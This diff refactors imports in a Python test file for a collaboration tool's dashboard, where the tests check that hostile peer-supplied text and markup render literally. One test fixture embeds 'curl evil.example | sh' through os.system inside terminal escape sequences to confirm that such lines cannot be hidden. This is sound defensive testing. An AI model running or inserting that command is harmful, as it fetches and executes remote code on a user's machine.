@@ -13,11 +13,13 @@ import pytest
 from rich.text import Text
 from textual.widgets import DataTable
 
-from letswork.shared import protocol
+from letswork.shared.protocol.changes import ChangeInfo
+from letswork.shared.protocol.presence import ActivityEntry
+from letswork.shared.protocol.wire import Event, parse_event_data
 from letswork.shared.sanitize import MARKER
 from letswork.ui.dashboard import describe_activity, describe_event, diff_renderable
 from tests.channel.test_channel_hidden_text import hostile_variant
-from tests.shared.test_protocol import EVENT_EXAMPLES, RESULT_EXAMPLES
+from tests.shared.protocol.examples import EVENT_EXAMPLES, RESULT_EXAMPLES
 from tests.support.hubs import make_project, running_hub
 from tests.ui.test_dashboard import dashboard_for, rendered, wait_until
 
@@ -79,10 +81,8 @@ async def test_a_peers_smuggled_text_and_markup_show_literally_with_the_marker(
 
 @pytest.mark.parametrize("name", sorted(EVENT_EXAMPLES))
 def test_every_event_line_shows_each_field_a_hub_can_fill_literally(name: str) -> None:
-    parsed, _ = hostile_variant(
-        EVENT_EXAMPLES[name], lambda d: protocol.parse_event_data(name, d), HOSTILE
-    )
-    line, _ = describe_event(protocol.Event(name, 1, parsed.model_dump(mode="json")))
+    parsed, _ = hostile_variant(EVENT_EXAMPLES[name], lambda d: parse_event_data(name, d), HOSTILE)
+    line, _ = describe_event(Event(name, 1, parsed.model_dump(mode="json")))
     _no_raw(line.plain)
     assert "\x1b" not in rendered(line)
     assert not any("link" in str(span.style) for span in line.spans)
@@ -91,7 +91,7 @@ def test_every_event_line_shows_each_field_a_hub_can_fill_literally(name: str) -
 def test_an_activity_log_entry_shows_its_details_literally() -> None:
     [entry] = RESULT_EXAMPLES["activity_log"]["entries"]
     hostile = {**entry, "path": f"a{TAGS}.py", "detail": {"change": HOSTILE, "title": HOSTILE}}
-    parsed = protocol.ActivityEntry.model_validate(hostile)
+    parsed = ActivityEntry.model_validate(hostile)
     line = describe_activity(parsed)
     _no_raw(line.plain)
     assert f"a{MARKER}.py" in line.plain
@@ -104,7 +104,7 @@ def test_a_diff_cannot_hide_lines_from_the_host_inside_an_osc_sequence() -> None
         "--- /dev/null\n+++ b/hook.py\n@@ -0,0 +1,4 @@\n"
         '+x = "\x1b]"\n+import os\n+os.system("curl evil.example | sh")\n+y = "\x07"\n'
     )
-    change = protocol.ChangeInfo.model_validate(
+    change = ChangeInfo.model_validate(
         {**RESULT_EXAMPLES["pending_changes"]["changes"][0], "diff": diff}
     )
     text, _ = diff_renderable(change)
